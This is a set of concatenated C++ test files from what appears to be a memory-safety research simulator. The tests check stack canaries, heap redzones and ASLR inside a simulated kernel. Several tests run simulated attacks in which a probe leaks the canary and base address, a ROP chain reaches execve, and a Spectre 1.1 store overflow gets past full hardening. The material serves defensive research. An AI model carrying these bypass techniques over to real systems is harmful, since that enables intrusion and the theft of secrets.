  // return slot; the epilogue's canary check must abort the process.
  const std::string smash(300, 'A');
  h.kernel().start_with_strings("/host", {"/host", smash});
  EXPECT_EQ(h.kernel().run(10'000'000), sim::StopReason::kFault);
  EXPECT_EQ(h.machine().cpu().fault().kind, sim::FaultKind::kStackCanary);
  EXPECT_EQ(h.kernel().harden_stats().canary_aborts, 1u);

  // The summary masks by config: canary events only show when the canary
  // layer is on.
  harden::HardenConfig on;
  on.canary = true;
  EXPECT_GE(harden::summarize(h.kernel(), on).canary_aborts, 1u);
  EXPECT_EQ(harden::summarize(h.kernel(), {}).total_events(), 0u);
}

// r4 = chunk address after this prologue; chunk size 32.
const char* kHeapProgPrologue =
    "_start:\n"
    "  movi r0, 5\n"   // SYS_HEAP_ALLOC
    "  movi r1, 32\n"
    "  syscall\n"
    "  mov r4, r0\n";

TEST(HardenKernel, GuardedHeapAllocWriteFreeOk) {
  sim::KernelConfig kcfg;
  kcfg.heap_guard = true;
  SimHarness h(kcfg);
  h.add_program(std::string(kHeapProgPrologue) +
                    "  movi r5, 42\n"
                    "  store [r4], r5\n"   // in-bounds write
                    "  movi r0, 6\n"       // SYS_HEAP_FREE
                    "  mov r1, r4\n"
                    "  syscall\n"
                    "  mov r1, r0\n"       // exit code = free result (0)
                    "  call exit_\n",
                "/bin/heap_ok");
  EXPECT_EQ(h.run_program("/bin/heap_ok"), sim::StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 0);
  EXPECT_EQ(h.kernel().harden_stats().heap_allocs, 1u);
  EXPECT_EQ(h.kernel().harden_stats().heap_frees, 1u);
  EXPECT_EQ(h.kernel().harden_stats().redzone_violations, 0u);
}

TEST(HardenKernel, GuardedHeapCatchesOverflowOnFree) {
  sim::KernelConfig kcfg;
  kcfg.heap_guard = true;
  SimHarness h(kcfg);
  h.add_program(std::string(kHeapProgPrologue) +
                    "  movi r5, 42\n"
                    "  mov r6, r4\n"
                    "  addi r6, r6, 32\n"
                    "  store [r6], r5\n"   // 8 bytes past the chunk
                    "  movi r0, 6\n"
                    "  mov r1, r4\n"
                    "  syscall\n"
                    "  movi r1, 0\n"
                    "  call exit_\n",
                "/bin/heap_smash");
  EXPECT_EQ(h.run_program("/bin/heap_smash"), sim::StopReason::kFault);
  EXPECT_EQ(h.machine().cpu().fault().kind, sim::FaultKind::kHeapRedzone);
  EXPECT_EQ(h.kernel().harden_stats().redzone_violations, 1u);
}

TEST(HardenKernel, UnguardedHeapToleratesOverflow) {
  // Same smash without the guard: the classic unsafe heap frees happily.
  SimHarness h;
  h.add_program(std::string(kHeapProgPrologue) +
                    "  movi r5, 42\n"
                    "  mov r6, r4\n"
                    "  addi r6, r6, 32\n"
                    "  store [r6], r5\n"
                    "  movi r0, 6\n"
                    "  mov r1, r4\n"
                    "  syscall\n"
                    "  mov r1, r0\n"
                    "  call exit_\n",
                "/bin/heap_smash");
  EXPECT_EQ(h.run_program("/bin/heap_smash"), sim::StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 0);
}

TEST(HardenKernel, HeapFreeListReusesChunks) {
  sim::KernelConfig kcfg;
  kcfg.heap_guard = true;
  SimHarness h(kcfg);
  // alloc a; free a; alloc b (same size) — exit code 0 iff b == a.
  h.add_program(std::string(kHeapProgPrologue) +
                    "  movi r0, 6\n"
                    "  mov r1, r4\n"
                    "  syscall\n"
                    "  movi r0, 5\n"
                    "  movi r1, 32\n"
                    "  syscall\n"
                    "  sub r1, r0, r4\n"  // 0 when reused
                    "  call exit_\n",
                "/bin/heap_reuse");
  EXPECT_EQ(h.run_program("/bin/heap_reuse"), sim::StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 0);
}

TEST(HardenKernel, HeapDoubleFreeRejected) {
  sim::KernelConfig kcfg;
  kcfg.heap_guard = true;
  SimHarness h(kcfg);
  h.add_program(std::string(kHeapProgPrologue) +
                    "  movi r0, 6\n"
                    "  mov r1, r4\n"
                    "  syscall\n"
                    "  movi r0, 6\n"
                    "  mov r1, r4\n"
                    "  syscall\n"        // double free: r0 = -1
                    "  movi r1, 0\n"
                    "  sub r1, r1, r0\n" // exit code 1 on the expected -1
                    "  call exit_\n",
                "/bin/heap_df");
  EXPECT_EQ(h.run_program("/bin/heap_df"), sim::StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 1);
}

TEST(HardenProbe, LeaksBaseCanaryAndStackGroundTruth) {
  workloads::WorkloadOptions wopt;
  wopt.scale = 5;
  wopt.canary = true;
  wopt.secret = "GROUND-TRUTH";
  const sim::Program victim = workloads::build_workload("basicmath", wopt);

  const sim::KernelConfig kcfg = hardened_kcfg(0xBA5E);
  const std::vector<std::string> args = {"/host", "X"};

  // Ground truth: a fresh kernel with the same seed, started normally.
  sim::Machine truth_machine;
  sim::Kernel truth(truth_machine, kcfg);
  truth.register_binary("/host", victim);
  truth.start_with_strings("/host", args);
  const std::uint64_t true_delta = truth.main_image().base_delta;
  const std::uint64_t true_sp = truth_machine.cpu().sp();
  const std::uint64_t true_canary = truth_machine.memory().read_u64(
      truth.resolved_symbol("/host", "__canary"));

  // The probe pass: same seed, hijacked entry.
  sim::Machine machine;
  sim::Kernel kernel(machine, kcfg);
  kernel.register_binary("/host", victim);
  const harden::ProbeConfig pcfg =
      harden::probe_config_for(victim, kcfg, /*leak_canary=*/true);
  kernel.register_binary("/probe", harden::build_probe_binary(pcfg));
  std::vector<std::vector<std::uint8_t>> raw;
  for (const auto& a : args) raw.emplace_back(a.begin(), a.end());
  kernel.start_probe("/host", "/probe", raw);
  ASSERT_EQ(kernel.run(50'000'000), sim::StopReason::kHalted);

  const harden::ProbeLeak leak = harden::parse_probe_output(kernel.output());
  EXPECT_TRUE(leak.found_base);
  EXPECT_EQ(leak.base_delta, true_delta);
  EXPECT_EQ(leak.canary, true_canary);
  EXPECT_EQ(leak.stack_pointer, true_sp);
  // The probed layout IS the ground-truth layout (same seed, same draws).
  EXPECT_EQ(kernel.main_image().base_delta, true_delta);
}

TEST(HardenAttack, Spectre11LeaksUnderFullHardening) {
  // The speculative store overflow never commits a write, so canary,
  // redzones and ASLR (the attack is position-independent about its own
  // labels) are all bypassed: the full preset leaks the whole secret.
  attack::Spectre11Config acfg;
  acfg.embed_secret = "SSO-SECRET!!";
  acfg.secret_length = 12;
  SimHarness h(hardened_kcfg(0x5511));
  h.kernel().register_binary("/attack",
                             attack::build_spectre11_binary(acfg));
  EXPECT_EQ(h.run_program("/attack", {"/attack"}, 200'000'000),
            sim::StopReason::kHalted);
  const std::string got(h.kernel().output().begin(),
                        h.kernel().output().end());
  EXPECT_EQ(got, "SSO-SECRET!!");
  // Architecturally clean: the hardening layer observed nothing.
  EXPECT_EQ(h.kernel().harden_stats().canary_aborts, 0u);
  EXPECT_EQ(h.kernel().harden_stats().redzone_violations, 0u);
}

core::ScenarioConfig hardened_leak_scenario() {
  core::ScenarioConfig cfg;
  cfg.host = "basicmath";
  cfg.host_scale = 2000;
  cfg.secret = "HARDEN-SECRET-16";
  cfg.rop_injected = true;
  cfg.harden = harden::preset("full");
  cfg.leak_stage = true;
  cfg.seed = 77;
  return cfg;
}

/// Everything the hardening layer adds to a run, serialised for exact
/// restored-vs-fresh comparison.
std::string harden_fingerprint(const core::ScenarioRun& run) {
  std::ostringstream os;
  os << run.profile.cycles << ':' << run.profile.instructions << ':'
     << run.attack_launched << ':' << run.secret_recovered << ':'
     << run.recovered << ':' << run.leak_stage_ran << ':'
     << run.leak.found_base << ':' << run.leak.base_delta << ':'
     << run.leak.canary << ':' << run.leak.stack_pointer << ':'
     << run.harden.total_events() << ':' << run.harden.canary_aborts;
  return os.str();
}

TEST(HardenScenario, LeakStageDefeatsFullHardening) {
  const core::ScenarioConfig cfg = hardened_leak_scenario();
  const core::ScenarioRun run = core::run_scenario(cfg);
  EXPECT_TRUE(run.leak_stage_ran);
  EXPECT_TRUE(run.leak.found_base);
  EXPECT_TRUE(run.attack_launched);
  EXPECT_TRUE(run.secret_recovered);
  EXPECT_EQ(run.recovered, cfg.secret);
  // The patched payload restores the leaked canary, so the smash is
  // invisible to the epilogue check.
  EXPECT_EQ(run.harden.canary_aborts, 0u);
}

TEST(HardenScenario, CanaryBlocksClassicOverflow) {
  core::ScenarioConfig cfg = hardened_leak_scenario();
  cfg.leak_stage = false;
  cfg.harden = harden::preset("canary");
  const core::ScenarioRun run = core::run_scenario(cfg);
  EXPECT_FALSE(run.attack_launched);
  EXPECT_FALSE(run.secret_recovered);
  EXPECT_GE(run.harden.canary_aborts, 1u);
}

TEST(HardenScenario, AslrAloneBlocksUnleakedPayload) {
  core::ScenarioConfig cfg = hardened_leak_scenario();
  cfg.leak_stage = false;
  cfg.harden = harden::HardenConfig{};
  cfg.harden.aslr = true;
  const core::ScenarioRun run = core::run_scenario(cfg);
  // Link-time gadget addresses land below the relocated image: the hijacked
  // return faults before reaching the execve chain.
  EXPECT_FALSE(run.attack_launched);
  EXPECT_FALSE(run.secret_recovered);
}

TEST(HardenMatrix, GridSeparatesClassicFromSpeculative) {
  core::HardenMatrixConfig cfg;
  cfg.quick = true;
  cfg.host_scale = 2000;
  const core::HardenMatrixResult r = core::run_harden_matrix(cfg);

  // Classic stack overflow: leaks when unhardened, dead under canary, aslr
  // and the full stack (the canary abort fires before the chain's first
  // gadget; under aslr the link-time gadget addresses fault).
  EXPECT_GT(r.cell("stack-overflow", "none").leak_rate, 0.0);
  EXPECT_EQ(r.cell("stack-overflow", "canary").launches, 0);
  EXPECT_EQ(r.cell("stack-overflow", "canary").leak_rate, 0.0);
  EXPECT_GT(r.cell("stack-overflow", "canary").harden_events, 0u);
  EXPECT_EQ(r.cell("stack-overflow", "aslr").leak_rate, 0.0);
  EXPECT_EQ(r.cell("stack-overflow", "full").leak_rate, 0.0);

  // The probe-parameterized injection and the speculative store overflow
  // keep leaking against the full preset — the defense-awareness thesis.
  EXPECT_GT(r.cell("spec-probe-rop", "full").leak_rate, 0.0);
  EXPECT_GT(r.cell("spec-probe-rop", "full").base_leaks, 0);
  EXPECT_GT(r.cell("spectre-1.1", "full").leak_rate, 0.0);
  EXPECT_GT(r.cell("spectre-1.1", "aslr").leak_rate, 0.0);

  const std::string csv = core::harden_matrix_csv(r);
  EXPECT_NE(csv.find("attack,preset,attempts,launches,leaks"),
            std::string::npos);
  EXPECT_EQ(r.cells.size(),
            r.attacks.size() * r.presets.size());
}

TEST(HardenScenario, SessionRestoreMatchesFresh) {
  const core::ScenarioConfig cfg = hardened_leak_scenario();
  core::ScenarioSession session(cfg);
  const std::string first = harden_fingerprint(session.run_attempt(cfg.seed));
  const std::string second =
      harden_fingerprint(session.run_attempt(cfg.seed + 1));
  const std::string again = harden_fingerprint(session.run_attempt(cfg.seed));
  EXPECT_EQ(first, again);

  core::ScenarioSession fresh(cfg);
  EXPECT_EQ(harden_fingerprint(fresh.run_attempt(cfg.seed)), first);
  EXPECT_EQ(harden_fingerprint(fresh.run_attempt(cfg.seed + 1)), second);
  // Different attempt seeds draw different layouts, so the leak differs.
  EXPECT_NE(first, second);
}

}  // namespace
}  // namespace crs
