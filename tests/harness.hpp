// Shared helpers for tests that assemble and run simulated programs.
#pragma once

#include <gtest/gtest.h>

#include <cstdint>
#include <string>
#include <vector>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "sim/kernel.hpp"

namespace crs::test {

/// Assembles `source` with the runtime library appended.
inline sim::Program assemble_with_runtime(const std::string& source,
                                          const std::string& name = "prog",
                                          std::uint64_t link_base = 0x10000) {
  casm::AssembleOptions opt;
  opt.name = name;
  opt.link_base = link_base;
  return casm::assemble(source + casm::runtime_library(), opt);
}

/// Machine + kernel with one registered program, ready to start.
class SimHarness {
 public:
  explicit SimHarness(const sim::KernelConfig& kcfg = {},
                      const sim::MachineConfig& mcfg = {})
      : machine_(mcfg), kernel_(machine_, kcfg) {}

  /// Assembles (runtime appended) and registers under `path`.
  const sim::Program& add_program(const std::string& source,
                                  const std::string& path,
                                  std::uint64_t link_base = 0x10000) {
    programs_[path] =
        assemble_with_runtime(source, path, link_base);
    kernel_.register_binary(path, programs_[path]);
    return programs_[path];
  }

  sim::StopReason run_program(const std::string& path,
                              const std::vector<std::string>& args = {},
                              std::uint64_t max_instructions = 10'000'000) {
    kernel_.start_with_strings(path, args);
    return kernel_.run(max_instructions);
  }

  sim::StopReason run_program_raw(
      const std::string& path,
      const std::vector<std::vector<std::uint8_t>>& args,
      std::uint64_t max_instructions = 10'000'000) {
    kernel_.start(path, args);
    return kernel_.run(max_instructions);
  }

  /// Single-steps the CPU until it halts, calling `on_step` (if any) after
  /// each step. A program that exceeds `max_steps` is reported as a test
  /// failure with pc/retired diagnostics instead of hanging ctest forever.
  /// Returns true when the CPU halted within the budget.
  template <typename OnStep>
  bool run_to_halt(std::uint64_t max_steps, OnStep&& on_step) {
    auto& cpu = machine_.cpu();
    for (std::uint64_t steps = 0; !cpu.halted(); ++steps) {
      if (steps >= max_steps) {
        ADD_FAILURE() << "program did not halt within " << max_steps
                      << " steps (pc=0x" << std::hex << cpu.pc() << std::dec
                      << ", retired=" << cpu.retired() << ")";
        return false;
      }
      cpu.step();
      on_step();
    }
    return true;
  }

  bool run_to_halt(std::uint64_t max_steps) {
    return run_to_halt(max_steps, [] {});
  }

  sim::Machine& machine() { return machine_; }
  sim::Kernel& kernel() { return kernel_; }
  const sim::Program& program(const std::string& path) {
    return programs_.at(path);
  }

 private:
  sim::Machine machine_;
  sim::Kernel kernel_;
  std::map<std::string, sim::Program> programs_;
};

}  // namespace crs::test
