// Soak tier for the campaign service (docs/SERVING.md, docs/TESTING.md).
//
// Hammers one 2-shard server with several concurrent tenant connections
// submitting mixed job kinds, pipelining submits, and cancelling roughly
// every tenth job mid-flight, for a wall-clock budget taken from
// CRS_SOAK_MS (default 3 s locally; CI runs it at 45 s under ASan). The
// assertions are the service's conservation laws:
//
//   received  == accepted + rejected      (every submit answered once)
//   accepted  == completed + cancelled    (every accepted job terminal)
//
// checked both on ServeStats and on the mirrored serve.* metrics registry
// counters, plus per-client: every accepted id got exactly one RESULT and
// no client ever deadlocks waiting for a frame that will not come. Under
// ASan this doubles as the leak check for the session caches, machine
// pools and in-flight job records.
//
// CRS_SOAK_ARTIFACTS=<dir> additionally dumps the metrics registry CSV
// there (the CI serve job uploads it).
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <cstdlib>
#include <map>
#include <string>
#include <thread>
#include <vector>

#include "core/job.hpp"
#include "core/report.hpp"
#include "obs/metrics.hpp"
#include "serve/client.hpp"
#include "serve/server.hpp"

namespace crs {
namespace {

using serve::Client;
using serve::FrameType;
using serve::Server;

std::uint64_t soak_budget_ms() {
  if (const char* env = std::getenv("CRS_SOAK_MS")) {
    const long v = std::atol(env);
    if (v > 0) return static_cast<std::uint64_t>(v);
  }
  return 3000;
}

/// Cheap-but-varied job mix. Scenario jobs dominate (they exercise the
/// session caches); every few jobs a program job keeps the machine pools
/// warm on the same shards.
core::JobSpec make_job(std::uint64_t id, std::uint64_t salt) {
  core::JobSpec spec;
  spec.id = id;
  if (salt % 5 == 4) {
    spec.kind = core::JobKind::kProgram;
    spec.program.source =
        "main:\n"
        "  movi r1, " + std::to_string(salt % 7) + "\n"
        "  call exit_\n";
    return spec;
  }
  spec.kind = core::JobKind::kScenario;
  spec.scenario.config.rop_injected = false;
  spec.scenario.config.secret = "SOAK";
  spec.scenario.config.host_scale = 600 + salt % 4;  // 4 distinct configs
  spec.scenario.config.seed = 1 + salt;
  // Enough attempts that a cancel has something to interrupt.
  spec.scenario.attempts = 3 + static_cast<int>(salt % 4);
  return spec;
}

struct ClientTally {
  std::uint64_t submitted = 0;
  std::uint64_t accepted = 0;
  std::uint64_t rejected = 0;
  std::uint64_t results_ok = 0;
  std::uint64_t results_cancelled = 0;
  std::uint64_t results_failed = 0;
  bool clean = true;
};

/// One tenant: keeps up to `kWindow` jobs in flight, cancels every ~10th
/// submit right after its first PROGRESS would plausibly have fired, and
/// drains everything before returning. Runs its own event loop — a
/// pipelined client must not use await_result (results arrive in shard
/// completion order, not submission order).
ClientTally run_tenant(std::uint16_t port, unsigned tenant,
                       std::chrono::steady_clock::time_point deadline) {
  constexpr std::uint64_t kWindow = 4;
  ClientTally tally;
  Client client = Client::connect_tcp(port);
  std::map<std::uint64_t, bool> outstanding;  // id -> accepted yet
  std::uint64_t next_id = 1;
  std::uint64_t salt = tenant * 1000003u;

  const auto pump_one = [&]() {
    const Client::Event ev = client.next_event();
    switch (ev.type) {
      case FrameType::kAccepted:
        ++tally.accepted;
        outstanding[ev.id] = true;
        break;
      case FrameType::kRejected:
        ++tally.rejected;
        outstanding.erase(ev.id);
        break;
      case FrameType::kProgress:
        break;
      case FrameType::kResult:
        if (ev.status == "ok") {
          ++tally.results_ok;
          if (ev.payload.empty()) tally.clean = false;
        } else if (ev.status == "cancelled") {
          ++tally.results_cancelled;
        } else {
          ++tally.results_failed;
        }
        if (outstanding.erase(ev.id) != 1) tally.clean = false;
        break;
      default:
        tally.clean = false;  // unexpected frame kind
        break;
    }
  };

  while (std::chrono::steady_clock::now() < deadline) {
    const std::uint64_t id = next_id++;
    client.submit(make_job(id, salt++));
    ++tally.submitted;
    outstanding[id] = false;  // pending server verdict
    if (id % 10 == 3) client.cancel(id);  // the killer: ~10% die mid-flight
    // Don't let the pipeline run away from the queue capacity.
    while (outstanding.size() >= kWindow) pump_one();
  }
  // Drain: every submitted job must reach a terminal frame. A missing
  // RESULT would hang here — the watchdog below turns that into a failure
  // instead of a stuck CI job.
  while (!outstanding.empty()) pump_one();
  return tally;
}

TEST(ServeSoak, CountersReconcileUnderChurnAndCancels) {
  const auto budget = std::chrono::milliseconds(soak_budget_ms());
  obs::MetricsRegistry::instance().reset_values();

  serve::ServeConfig scfg;
  scfg.shards = 2;
  scfg.queue_capacity = 8;  // small enough that backpressure can trigger
  scfg.session_cache_capacity = 4;
  Server server(scfg);
  server.start();

  constexpr unsigned kTenants = 3;
  const auto deadline = std::chrono::steady_clock::now() + budget;
  std::vector<ClientTally> tallies(kTenants);
  {
    std::vector<std::thread> tenants;
    std::atomic<unsigned> done{0};
    for (unsigned t = 0; t < kTenants; ++t) {
      tenants.emplace_back([&, t] {
        tallies[t] = run_tenant(server.port(), t, deadline);
        done.fetch_add(1);
      });
    }
    // Watchdog: tenants must drain within the budget plus a generous grace
    // period for in-flight campaign work. A stuck job trips this.
    const auto hard_stop = deadline + std::chrono::seconds(60);
    while (done.load() < kTenants) {
      ASSERT_LT(std::chrono::steady_clock::now(), hard_stop)
          << "tenant stuck waiting for a terminal frame";
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    for (auto& t : tenants) t.join();
  }

  server.shutdown(true);
  const serve::ServeStats stats = server.stats();

  ClientTally sum;
  for (const ClientTally& t : tallies) {
    EXPECT_TRUE(t.clean);
    sum.submitted += t.submitted;
    sum.accepted += t.accepted;
    sum.rejected += t.rejected;
    sum.results_ok += t.results_ok;
    sum.results_cancelled += t.results_cancelled;
    sum.results_failed += t.results_failed;
  }
  ASSERT_GT(sum.submitted, 0u);
  EXPECT_EQ(sum.results_failed, 0u);

  // Server-side conservation laws.
  EXPECT_EQ(stats.received, stats.accepted + stats.rejected);
  EXPECT_EQ(stats.accepted, stats.completed + stats.cancelled);
  // Client- and server-side ledgers agree exactly.
  EXPECT_EQ(stats.received, sum.submitted);
  EXPECT_EQ(stats.accepted, sum.accepted);
  EXPECT_EQ(stats.rejected, sum.rejected);
  EXPECT_EQ(stats.completed, sum.results_ok + sum.results_failed);
  EXPECT_EQ(stats.cancelled, sum.results_cancelled);

  // The mirrored observability counters tell the same story.
  auto& reg = obs::MetricsRegistry::instance();
  if (obs::kEnabled) {
    EXPECT_EQ(reg.counter("serve.received").value(), stats.received);
    EXPECT_EQ(reg.counter("serve.accepted").value(), stats.accepted);
    EXPECT_EQ(reg.counter("serve.rejected").value(), stats.rejected);
    EXPECT_EQ(reg.counter("serve.completed").value(), stats.completed);
    EXPECT_EQ(reg.counter("serve.cancelled").value(), stats.cancelled);
  }

  if (const char* dir = std::getenv("CRS_SOAK_ARTIFACTS")) {
    core::write_text_file(std::string(dir) + "/soak_metrics.csv", reg.csv());
  }

  std::printf(
      "soak: %llu submitted, %llu accepted, %llu rejected, %llu ok, "
      "%llu cancelled over %llu ms\n",
      static_cast<unsigned long long>(sum.submitted),
      static_cast<unsigned long long>(sum.accepted),
      static_cast<unsigned long long>(sum.rejected),
      static_cast<unsigned long long>(sum.results_ok),
      static_cast<unsigned long long>(sum.results_cancelled),
      static_cast<unsigned long long>(soak_budget_ms()));
}

}  // namespace
}  // namespace crs
