#include <gtest/gtest.h>

#include <cmath>
#include <set>

#include "support/error.hpp"
#include "support/rng.hpp"
#include "support/stats.hpp"
#include "support/strings.hpp"
#include "support/table.hpp"

namespace crs {
namespace {

TEST(Rng, DeterministicForEqualSeeds) {
  Rng a(42), b(42);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next_u64(), b.next_u64());
}

TEST(Rng, DifferentSeedsDiverge) {
  Rng a(1), b(2);
  int equal = 0;
  for (int i = 0; i < 64; ++i)
    if (a.next_u64() == b.next_u64()) ++equal;
  EXPECT_LT(equal, 4);
}

TEST(Rng, NextBelowStaysInRange) {
  Rng rng(7);
  for (int i = 0; i < 1000; ++i) {
    EXPECT_LT(rng.next_below(17), 17u);
  }
}

TEST(Rng, NextBelowRejectsZero) {
  Rng rng(7);
  EXPECT_THROW(rng.next_below(0), Error);
}

TEST(Rng, NextInCoversInclusiveRange) {
  Rng rng(3);
  std::set<std::int64_t> seen;
  for (int i = 0; i < 2000; ++i) {
    const auto v = rng.next_in(-2, 2);
    EXPECT_GE(v, -2);
    EXPECT_LE(v, 2);
    seen.insert(v);
  }
  EXPECT_EQ(seen.size(), 5u);
}

TEST(Rng, DoubleInUnitInterval) {
  Rng rng(11);
  for (int i = 0; i < 1000; ++i) {
    const double d = rng.next_double();
    EXPECT_GE(d, 0.0);
    EXPECT_LT(d, 1.0);
  }
}

TEST(Rng, GaussianMomentsRoughlyStandard) {
  Rng rng(5);
  OnlineStats s;
  for (int i = 0; i < 20000; ++i) s.add(rng.next_gaussian());
  EXPECT_NEAR(s.mean(), 0.0, 0.05);
  EXPECT_NEAR(s.stddev(), 1.0, 0.05);
}

TEST(Rng, BernoulliFrequencyTracksP) {
  Rng rng(9);
  int hits = 0;
  for (int i = 0; i < 10000; ++i)
    if (rng.next_bernoulli(0.3)) ++hits;
  EXPECT_NEAR(hits / 10000.0, 0.3, 0.03);
}

TEST(Rng, ShufflePreservesElements) {
  Rng rng(13);
  std::vector<int> v{1, 2, 3, 4, 5, 6, 7, 8};
  auto w = v;
  rng.shuffle(w);
  std::multiset<int> a(v.begin(), v.end()), b(w.begin(), w.end());
  EXPECT_EQ(a, b);
}

TEST(Rng, SplitProducesIndependentStream) {
  Rng a(21);
  Rng b = a.split();
  EXPECT_NE(a.next_u64(), b.next_u64());
}

TEST(OnlineStats, MatchesDirectComputation) {
  const std::vector<double> xs{1.0, 2.0, 4.0, 8.0, 16.0};
  OnlineStats s;
  for (double x : xs) s.add(x);
  EXPECT_DOUBLE_EQ(s.mean(), 6.2);
  EXPECT_NEAR(s.variance(), 37.2, 1e-9);
  EXPECT_EQ(s.min(), 1.0);
  EXPECT_EQ(s.max(), 16.0);
  EXPECT_EQ(s.count(), 5u);
}

TEST(OnlineStats, MergeEqualsSinglePass) {
  Rng rng(2);
  OnlineStats all, left, right;
  for (int i = 0; i < 1000; ++i) {
    const double x = rng.next_gaussian(3.0, 2.0);
    all.add(x);
    (i < 500 ? left : right).add(x);
  }
  left.merge(right);
  EXPECT_NEAR(left.mean(), all.mean(), 1e-9);
  EXPECT_NEAR(left.variance(), all.variance(), 1e-9);
  EXPECT_EQ(left.count(), all.count());
}

TEST(Stats, MedianAndPercentile) {
  std::vector<double> xs{5, 1, 4, 2, 3};
  EXPECT_DOUBLE_EQ(median(xs), 3.0);
  EXPECT_DOUBLE_EQ(percentile(xs, 0), 1.0);
  EXPECT_DOUBLE_EQ(percentile(xs, 100), 5.0);
  EXPECT_DOUBLE_EQ(percentile(xs, 50), 3.0);
}

TEST(Stats, PercentileInterpolates) {
  std::vector<double> xs{0.0, 10.0};
  EXPECT_DOUBLE_EQ(percentile(xs, 25), 2.5);
}

TEST(Stats, EmptyPercentileThrows) {
  EXPECT_THROW(percentile({}, 50), Error);
}

TEST(Strings, SplitKeepsEmptyFields) {
  const auto parts = split("a,,b", ',');
  ASSERT_EQ(parts.size(), 3u);
  EXPECT_EQ(parts[1], "");
}

TEST(Strings, SplitWsDropsBlanks) {
  const auto parts = split_ws("  foo \t bar\nbaz  ");
  ASSERT_EQ(parts.size(), 3u);
  EXPECT_EQ(parts[0], "foo");
  EXPECT_EQ(parts[2], "baz");
}

TEST(Strings, TrimBothEnds) { EXPECT_EQ(trim("  x \t"), "x"); }

TEST(Strings, ParseIntDecimalHexNegative) {
  std::int64_t v = 0;
  EXPECT_TRUE(parse_int("123", v));
  EXPECT_EQ(v, 123);
  EXPECT_TRUE(parse_int("0x1f", v));
  EXPECT_EQ(v, 31);
  EXPECT_TRUE(parse_int("-42", v));
  EXPECT_EQ(v, -42);
  EXPECT_FALSE(parse_int("12x", v));
  EXPECT_FALSE(parse_int("", v));
  EXPECT_FALSE(parse_int("-", v));
}

TEST(Strings, HexAndFixedFormatting) {
  EXPECT_EQ(hex(255), "0xff");
  EXPECT_EQ(fixed(3.14159, 2), "3.14");
}

TEST(Strings, Padding) {
  EXPECT_EQ(pad_left("x", 3), "  x");
  EXPECT_EQ(pad_right("x", 3), "x  ");
}

TEST(Table, RendersAlignedColumns) {
  Table t({"name", "value"});
  t.add_row({"a", "1"});
  t.add_row({"longer", "22"});
  const std::string out = t.render();
  EXPECT_NE(out.find("name   | value"), std::string::npos);
  EXPECT_NE(out.find("longer | 22"), std::string::npos);
  EXPECT_EQ(t.row_count(), 2u);
}

TEST(Table, MissingCellsRenderEmpty) {
  Table t({"a", "b"});
  t.add_row({"only"});
  EXPECT_NO_THROW(t.render());
}

TEST(Error, EnsureThrowsWithContext) {
  try {
    CRS_ENSURE(false, "the message");
    FAIL() << "should have thrown";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("the message"), std::string::npos);
  }
}

}  // namespace
}  // namespace crs
