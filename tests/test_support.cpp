#include <gtest/gtest.h>

#include <cmath>
#include <set>

#include "support/error.hpp"
#include "support/flags.hpp"
#include "support/rng.hpp"
#include "support/stats.hpp"
#include "support/strings.hpp"
#include "support/table.hpp"

namespace crs {
namespace {

TEST(Rng, DeterministicForEqualSeeds) {
  Rng a(42), b(42);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next_u64(), b.next_u64());
}

TEST(Rng, DifferentSeedsDiverge) {
  Rng a(1), b(2);
  int equal = 0;
  for (int i = 0; i < 64; ++i)
    if (a.next_u64() == b.next_u64()) ++equal;
  EXPECT_LT(equal, 4);
}

TEST(Rng, NextBelowStaysInRange) {
  Rng rng(7);
  for (int i = 0; i < 1000; ++i) {
    EXPECT_LT(rng.next_below(17), 17u);
  }
}

TEST(Rng, NextBelowRejectsZero) {
  Rng rng(7);
  EXPECT_THROW(rng.next_below(0), Error);
}

TEST(Rng, NextInCoversInclusiveRange) {
  Rng rng(3);
  std::set<std::int64_t> seen;
  for (int i = 0; i < 2000; ++i) {
    const auto v = rng.next_in(-2, 2);
    EXPECT_GE(v, -2);
    EXPECT_LE(v, 2);
    seen.insert(v);
  }
  EXPECT_EQ(seen.size(), 5u);
}

TEST(Rng, DoubleInUnitInterval) {
  Rng rng(11);
  for (int i = 0; i < 1000; ++i) {
    const double d = rng.next_double();
    EXPECT_GE(d, 0.0);
    EXPECT_LT(d, 1.0);
  }
}

TEST(Rng, GaussianMomentsRoughlyStandard) {
  Rng rng(5);
  OnlineStats s;
  for (int i = 0; i < 20000; ++i) s.add(rng.next_gaussian());
  EXPECT_NEAR(s.mean(), 0.0, 0.05);
  EXPECT_NEAR(s.stddev(), 1.0, 0.05);
}

TEST(Rng, BernoulliFrequencyTracksP) {
  Rng rng(9);
  int hits = 0;
  for (int i = 0; i < 10000; ++i)
    if (rng.next_bernoulli(0.3)) ++hits;
  EXPECT_NEAR(hits / 10000.0, 0.3, 0.03);
}

TEST(Rng, ShufflePreservesElements) {
  Rng rng(13);
  std::vector<int> v{1, 2, 3, 4, 5, 6, 7, 8};
  auto w = v;
  rng.shuffle(w);
  std::multiset<int> a(v.begin(), v.end()), b(w.begin(), w.end());
  EXPECT_EQ(a, b);
}

TEST(Rng, SplitProducesIndependentStream) {
  Rng a(21);
  Rng b = a.split();
  EXPECT_NE(a.next_u64(), b.next_u64());
}

TEST(OnlineStats, MatchesDirectComputation) {
  const std::vector<double> xs{1.0, 2.0, 4.0, 8.0, 16.0};
  OnlineStats s;
  for (double x : xs) s.add(x);
  EXPECT_DOUBLE_EQ(s.mean(), 6.2);
  EXPECT_NEAR(s.variance(), 37.2, 1e-9);
  EXPECT_EQ(s.min(), 1.0);
  EXPECT_EQ(s.max(), 16.0);
  EXPECT_EQ(s.count(), 5u);
}

TEST(OnlineStats, MergeEqualsSinglePass) {
  Rng rng(2);
  OnlineStats all, left, right;
  for (int i = 0; i < 1000; ++i) {
    const double x = rng.next_gaussian(3.0, 2.0);
    all.add(x);
    (i < 500 ? left : right).add(x);
  }
  left.merge(right);
  EXPECT_NEAR(left.mean(), all.mean(), 1e-9);
  EXPECT_NEAR(left.variance(), all.variance(), 1e-9);
  EXPECT_EQ(left.count(), all.count());
}

TEST(Stats, MedianAndPercentile) {
  std::vector<double> xs{5, 1, 4, 2, 3};
